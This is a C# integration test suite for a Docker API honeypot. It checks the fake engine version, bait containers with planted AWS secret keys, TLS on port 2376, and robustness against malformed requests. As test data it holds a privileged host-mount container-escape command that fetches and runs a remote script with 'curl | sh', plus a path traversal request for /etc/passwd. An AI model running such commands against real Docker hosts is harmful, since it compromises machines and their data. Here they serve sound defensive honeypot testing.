using System.Text.Json;
using Decnet.Core.Bounty;
using Decnet.Core.Honeypots.Docker;

namespace Decnet.Tests.Honeypots.Docker;

/// <summary>The Docker API honeypot against Debian's docker CLI (docker.io), the client attackers point at exposed engines.</summary>
[Trait("Category", "Integration")]
public sealed class DockerApiHoneypotTests
{
    /// <summary>Debian's docker.io client, which test.sh installs.</summary>
    private const string DockerCli = "/usr/bin/docker";

    private static async Task<ClientProcess.Result> Docker(TestDecky decky, string port, params string[] args)
    {
        // A private client config: the test never reads or writes the machine's ~/.docker.
        var config = Path.Combine(decky.Root, "docker-config");
        Directory.CreateDirectory(config);
        return await ClientProcess.RunAsync(DockerCli, ["-H", $"tcp://{decky.Address}:{port}", .. args], timeoutMs: 60_000,
            environment: new Dictionary<string, string> { ["DOCKER_CONFIG"] = config });
    }

    [Fact]
    public async Task The_cli_sees_a_docker_24_engine_with_bait_containers_and_its_user_agent_is_a_fingerprint()
    {
        await using var decky = TestDecky.Create();
        await decky.StartAsync(new DockerApiHoneypotFactory());

        var version = await Docker(decky, "2375", "version", "--format", "{{.Server.Version}} {{.Server.APIVersion}} {{.Server.KernelVersion}}");
        Assert.True(version.ExitCode == 0, version.Stderr);
        Assert.Equal("24.0.7 1.43 5.15.0-91-generic", version.Stdout.Trim());

        var info = await Docker(decky, "2375", "info", "--format", "{{.ServerVersion}}|{{.OperatingSystem}}|{{.Containers}}|{{.Driver}}");
        Assert.True(info.ExitCode == 0, info.Stderr);
        Assert.Equal("24.0.7|Ubuntu 22.04.3 LTS|4|overlay2", info.Stdout.Trim());

        var ps = await Docker(decky, "2375", "ps", "--format", "{{.Names}} {{.Image}} {{.Status}}");
        Assert.True(ps.ExitCode == 0, ps.Stderr);
        Assert.Contains(ps.Stdout.Split('\n'), l => l.StartsWith("prod-postgres postgres:15.4 Up ", StringComparison.Ordinal));
        Assert.Contains("jenkins jenkins/jenkins:2.426.1-lts", ps.Stdout, StringComparison.Ordinal);

        var images = await Docker(decky, "2375", "images", "--format", "{{.Repository}}:{{.Tag}}");
        Assert.Contains("redis:7.2-alpine", images.Stdout, StringComparison.Ordinal);

        var inspect = await Docker(decky, "2375", "inspect", "--format", "{{json .Config.Env}}", "api-gateway");
        Assert.True(inspect.ExitCode == 0, inspect.Stderr);
        Assert.Contains("AWS_SECRET_ACCESS_KEY=", inspect.Stdout, StringComparison.Ordinal);

        var request = await decky.Sink.WaitForAsync("request", e => e.Field("path")!.EndsWith("/containers/json", StringComparison.Ordinal));
        var agent = request.Field("user_agent")!;
        Assert.StartsWith("Docker-Client/", agent, StringComparison.Ordinal);
        var fingerprint = Assert.Single(WireBounty.Of(request), b => b.BountyType == BountyExtractor.Fingerprint);
        Assert.Equal(agent, WireBounty.Payload(fingerprint)["value"]);
    }

    [Fact]
    public async Task Docker_run_with_host_mounts_is_captured_as_intent_and_exec_answers_from_the_emulated_shell()
    {
        await using var decky = TestDecky.Create();
        await decky.StartAsync(new DockerApiHoneypotFactory());

        var run = await Docker(decky, "2375", "run", "-d", "--privileged", "--net=host", "-v", "/:/host", "--name", "pwn", "alpine:3.18", "chroot", "/host", "sh", "-c", "curl -s http://203.0.113.50/x.sh | sh");
        Assert.True(run.ExitCode == 0, run.Stderr);
        var id = run.Stdout.Trim();
        Assert.Matches("^[0-9a-f]{64}$", id);

        var create = await decky.Sink.WaitForAsync("container_create");
        Assert.Equal("alpine:3.18", create.Field("image"));
        Assert.Equal("pwn", create.Field("name"));
        Assert.Equal(["chroot", "/host", "sh", "-c", "curl -s http://203.0.113.50/x.sh | sh"], JsonSerializer.Deserialize<string[]>(create.Field("cmd")!)!);
        Assert.Equal(["/:/host"], JsonSerializer.Deserialize<string[]>(create.Field("binds")!)!);
        Assert.Equal("true", create.Field("privileged"));
        Assert.Equal("host", create.Field("network_mode"));
        Assert.Equal(id, (await decky.Sink.WaitForAsync("container_start")).Field("container_id"));

        var exec = await Docker(decky, "2375", "exec", "prod-postgres", "id");
        Assert.True(exec.ExitCode == 0, exec.Stderr);
        Assert.Equal("uid=0(root) gid=0(root) groups=0(root)", exec.Stdout.Trim());
        var cat = await Docker(decky, "2375", "exec", "pwn", "sh", "-c", "cat /etc/os-release | head -n 1");
        Assert.Contains("Alpine Linux", cat.Stdout, StringComparison.Ordinal);
        var failing = await Docker(decky, "2375", "exec", "pwn", "ls", "/nonexistent");
        Assert.NotEqual(0, failing.ExitCode);

        var execCreate = await decky.Sink.WaitForAsync("exec_create", e => e.Field("cmd") == "[\"id\"]");
        Assert.Equal("postgres:15.4", execCreate.Field("image"));
        // The exec'd commands reach the attacker's profile like shell commands.
        var command = await decky.Sink.WaitForAsync("command", e => e.Field("cmd") == "cat /etc/os-release | head -n 1");
        Assert.Equal(id, command.Field("container_id"));

        var missing = await Docker(decky, "2375", "exec", "nosuch", "id");
        Assert.Contains("No such container: nosuch", missing.Stderr, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Port_2376_speaks_tls_without_client_verification()
    {
        await using var decky = TestDecky.Create();
        await decky.StartAsync(new DockerApiHoneypotFactory());

        // The CLI insists on a CA file even without verification: the decky's own certificate serves.
        Assert.Contains("OK", (await RealClient.RunAsync("curl", ["-sk", $"https://{decky.Address}:2376/_ping"])).StdOut, StringComparison.Ordinal);
        Directory.CreateDirectory(Path.Combine(decky.Root, "docker-config"));
        File.Copy(Path.Combine(decky.StateDirectory, "docker_api", "tls-cert.pem"), Path.Combine(decky.Root, "docker-config", "ca.pem"));
        var version = await Docker(decky, "2376", "--tls", "version", "--format", "{{.Server.Version}}");
        Assert.True(version.ExitCode == 0, version.Stderr);
        Assert.Equal("24.0.7", version.Stdout.Trim());
        await decky.Sink.WaitForAsync("tls_session");

        var plain = await RealClient.RunAsync("curl", ["-s", $"http://{decky.Address}:2376/version"]);
        Assert.Equal("Client sent an HTTP request to an HTTPS server.\n", plain.StdOut);
    }

    [Fact]
    public async Task Garbage_and_mutated_requests_fault_nothing_and_the_cli_is_served_afterwards()
    {
        await using var decky = TestDecky.Create();
        var hosted = await decky.StartAsync(new DockerApiHoneypotFactory());

        await Robustness.SendGarbageAsync(hosted.EndPointOf("docker_api", 2375),
        [
            "POST /v1.43/containers/create HTTP/1.1\r\nHost: x\r\nContent-Length: 40\r\n\r\n{\"Image\":[1,2,3],\"HostConfig\":\"nope\"}   "u8.ToArray(),
            "POST /containers/create HTTP/1.1\r\nHost: x\r\nContent-Length: 30\r\n\r\n{{{{{{{{{{{{{{{{{{{{{{{{{{{{{{"u8.ToArray(),
            "POST /containers/pwn/exec HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n[]"u8.ToArray(),
            "POST /exec/0000/start HTTP/1.1\r\nHost: x\r\nUpgrade: tcp\r\nContent-Length: 5\r\n\r\nnull!"u8.ToArray(),
            "GET /v99999999999999999999.1/version HTTP/1.1\r\nHost: x\r\n\r\n"u8.ToArray(),
            "GET /version HTTP/1.1\r\n\r\n"u8.ToArray(),
            "GET /images/../../etc/passwd/json HTTP/1.1\r\nHost: x\r\n\r\n"u8.ToArray(),
            "POST /containers/create?name=%00%ff HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n"u8.ToArray(),
            // Invalid UTF-8 inside JSON strings (the fuzzer's find): read as U+FFFD, never a fault.
            [.. "POST /v1.43/containers/create?name=bad HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 27\r\n\r\n{\"Image\":\"a"u8, 0xFF, .. "b\",\"Cmd\":[\""u8, 0xFE, .. "\"]}"u8],
        ]);

        var version = await Docker(decky, "2375", "version", "--format", "{{.Server.Version}}");
        Assert.True(version.ExitCode == 0, version.Stderr);
        await decky.Sink.WaitForAsync("bad_request");
        WireBounty.AssertNoFaults(decky);
    }
}
